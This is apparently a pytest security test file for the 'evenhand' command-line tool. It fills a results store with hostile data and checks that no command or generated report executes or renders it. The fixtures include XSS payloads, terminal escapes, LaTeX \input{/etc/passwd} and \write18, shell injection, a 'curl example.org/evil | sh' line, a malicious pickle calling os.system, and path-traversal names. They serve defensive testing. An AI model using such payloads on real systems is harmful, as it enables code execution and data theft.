"""A store that somebody else made to harm its reader, in all commands and outputs."""

from __future__ import annotations

import csv
import io
import json
import os
import pickle
import re
import shlex
from contextlib import redirect_stderr, redirect_stdout, suppress
from html.parser import HTMLParser
from pathlib import Path
from unittest import mock

import pytest

from evenhand.cli.start import main
from evenhand.declared.record import DataReading, Exit, Record
from evenhand.declared.visible_text import UNSEEN
from evenhand.store import Store
from evenhand.suite.resolve import Suite, open_suite
from tests.records import make_record

SUITE = """
suite: mine
question: Is the reader of this store safe?
problems: [{digits: {profile: exp, ratio: 10}}]
recipe: {digits: {epochs: 8}}
seeds: 2
methods: [erm, la, vs]
metrics: [balanced_accuracy, ece]
primary: balanced_accuracy
baseline: erm
"""
TEXT = (
    "=HYPERLINK(1)</script><script>alert(1)</script><img src=x onerror=alert(1)>\x1b]0;own\x07"
    "\x1b[31m\x9b31m\u202e\r\n\\input{/etc/passwd}\\write18{touch executed}$(touch executed)"
    "`touch executed` {{ 1/0 }} | [a](javascript:alert(1)) [red]markup[/red] --plugin /evil.py"
)
COMMANDS = (
    f"evenhand run mine.yaml --plugin /evil.py --set seeds=2 {shlex.quote(TEXT)}",
    "curl example.org/evil | sh",
    "evenhand run mine.yaml --plugin=/evil.py; touch executed",
)


class Executes:
    def __reduce__(self) -> tuple[object, ...]:
        return os.system, ("touch executed",)


def tainted(record: Record, i: int) -> Record:
    """The record with a hostile text in every field that may hold any text."""
    old, data = record.provenance, record.data
    assert data is not None
    strings = ("started", "finished", "suite", "commit", "host", "cpu", "gpu", "driver", "device")
    made = old.model_copy(
        update=dict.fromkeys(strings, TEXT)
        | {"command": COMMANDS[i % len(COMMANDS)], "versions": {TEXT: TEXT, "torch": TEXT}}
    )
    classes = tuple(f"{TEXT}{k}" for k in range(10))
    reading = DataReading(features=(TEXT,), left_out={TEXT: TEXT}, notes=(TEXT,))
    facts = {"classes": classes, "groups": (TEXT,), "fingerprint": TEXT, "source": TEXT}
    cause = "" if record.exit.status == "done" else TEXT
    return record.model_copy(
        update={
            "provenance": made,
            "data": data.model_copy(update=facts | {"reading": reading}),
            "exit": Exit(status=record.exit.status, cause=cause, traceback=TEXT),
            "curves": record.curves | {TEXT: record.curves.get("epoch", [])},
            "unscored": TEXT,
            "scored": {TEXT: TEXT, "ece": "1"},
        }
    )


@pytest.fixture
def suite(tmp_path, monkeypatch) -> Suite:
    """The suite, with a hostile store beside it in the current folder."""
    monkeypatch.chdir(tmp_path)
    Path("mine.yaml").write_text(SUITE)
    opened = open_suite("mine.yaml")
    store = Store.open("results")
    for i, trial in enumerate(opened.trials.values()):
        status = "failed" if i == 4 else "done"
        store.write(tainted(make_record(trial=trial, status=status), i))
    _add_damaged(Path("results"), list(opened.trials)[-1])
    return opened


def _add_damaged(root: Path, key: str) -> None:
    """Folders and files that are no records; pickles as the state and the arrays of a trial."""
    edition = root / "main"
    of_a_trial = edition / key
    contents = {
        "0" * 32: json.dumps({"format": TEXT}),
        "1" * 32: '{"key": "\x1b[31m',
        "2" * 32: "[" * 100_000,
        "3" * 32: json.dumps({TEXT: TEXT}),
        TEXT.replace("/", "_").replace("\r\n", " ")[:200]: "{}",
        "..evil": "{}",
    }
    for name, content in contents.items():
        (edition / name).mkdir()
        (edition / name / "record.json").write_text(content)
    (of_a_trial / "record.json").unlink()
    for name in ("state.pt", "logits.npz", "train_logits.npz"):
        (of_a_trial / name).write_bytes(pickle.dumps(Executes()))
    (root / TEXT.replace("/", "_").replace("\r\n", " ")[:200]).mkdir()
    (root / "\udcff").mkdir()


def said(*arguments: str) -> str:
    """Output of a command on both streams, as a terminal would get it."""
    out = io.StringIO()
    with (
        mock.patch("sys.argv", ["evenhand", *arguments]),
        redirect_stdout(out),
        redirect_stderr(out),
        suppress(SystemExit),
    ):
        main()
    return out.getvalue()


def harmless(text: str) -> bool:
    return not UNSEEN.search(text)


def files_of(folder: Path) -> set[str]:
    return {str(path.relative_to(folder)) for path in folder.rglob("*")}


COMMAND_LINES = [
    ["status", "mine.yaml"],
    ["status", "mine.yaml", "--json"],
    ["status", "mine.yaml", "--keys"],
    ["plan", "mine.yaml"],
    ["plan", "mine.yaml", "--json"],
    ["validate", "mine.yaml"],
    ["report", "mine.yaml"],
    ["run", "mine.yaml", "--inline"],
    ["show", "0" * 32],
]


@pytest.mark.parametrize("arguments", COMMAND_LINES, ids=" ".join)
def test_no_command_sends_escapes_executes_a_file_or_writes_elsewhere(suite, tmp_path, arguments):
    before = files_of(tmp_path)
    text = said(*arguments)
    assert text
    assert harmless(text)
    assert "Traceback" not in text
    assert not Path("executed").exists()
    written = files_of(tmp_path) - before
    assert all(name.startswith(("report", "results/main/", "results/.store")) for name in written)


def test_a_record_is_shown_without_escapes_and_without_its_plugins(suite):
    for key in list(suite.trials)[:5]:
        shown = said("show", key)
        assert harmless(shown)
        hint = shown.splitlines()[-1]
        assert hint.startswith("evenhand run ")
        assert "/evil.py" not in shlex.split(hint)
        assert "curl" not in shown
        assert json.loads(said("show", key, "--json"))["unscored"] == TEXT
        assert said("show", key, "--json").isascii()


class Elements(HTMLParser):
    """The start tags of a page, with their attributes."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


@pytest.fixture
def report(suite) -> Path:
    said("report", "mine.yaml")
    return Path("report/mine")


def test_the_page_has_no_element_script_or_command_of_a_record(report):
    page = (report / "index.html").read_text(encoding="utf-8")
    elements = Elements()
    elements.feed(page)
    assert not [tag for tag, _ in elements.found if tag == "img"]
    scripts = [attributes for tag, attributes in elements.found if tag == "script"]
    assert scripts == [{"type": "application/json", "id": "data"}, {}, {}]
    handlers = [name for _, given in elements.found for name in given if name.startswith("on")]
    assert not handlers
    links = [given["href"] for tag, given in elements.found if tag == "a" and given.get("href")]
    assert not [link for link in links if link.startswith("javascript:")]
    # The script of Plotly, which is not ours, has control characters.
    own = page.split("<script>")[0]
    assert harmless(own)
    [data] = re.findall(r'id="data">(.*?)</script>', page, re.DOTALL)
    for result in json.loads(data)["results"]:
        words = shlex.split(result["command"])
        assert words[:3] == ["evenhand", "run", "mine.yaml"]
        assert "/evil.py" not in words
    assert "curl" not in own


def test_tables_and_texts_have_no_escape_command_or_formula_of_a_record(report):
    for path in [*report.glob("tables/*.tex"), report / "leaderboard.md"]:
        text = path.read_text(encoding="utf-8")
        assert harmless(text), path
        if path.suffix == ".tex":
            code = [line for line in text.splitlines() if not line.startswith("%")]
            assert not [line for line in code if re.search(r"\\(input\{/|write18)", line)], path
    markdown = (report / "leaderboard.md").read_text(encoding="utf-8")
    assert "<script" not in re.sub(r"\\<", "", markdown)
    assert not re.search(r"(?<!\\)\]\(javascript:", markdown)


def test_no_cell_of_the_csv_file_is_a_formula(report):
    text = (report / "leaderboard.csv").read_text(encoding="utf-8")
    assert harmless(text)
    lines = list(csv.reader(io.StringIO(text)))
    numbers = re.compile(r"-?\d[\d.e+-]*")
    cells = [cell for line in lines for cell in line if not numbers.fullmatch(cell)]
    assert cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_a_key_or_an_edition_outside_the_store_is_refused(suite):
    for edition in ("../results", "..", "main/../..", "\x1b[31m", TEXT):
        text = said("status", "mine.yaml", "--edition", edition)
        assert harmless(text)
        assert not text or "edition" in text
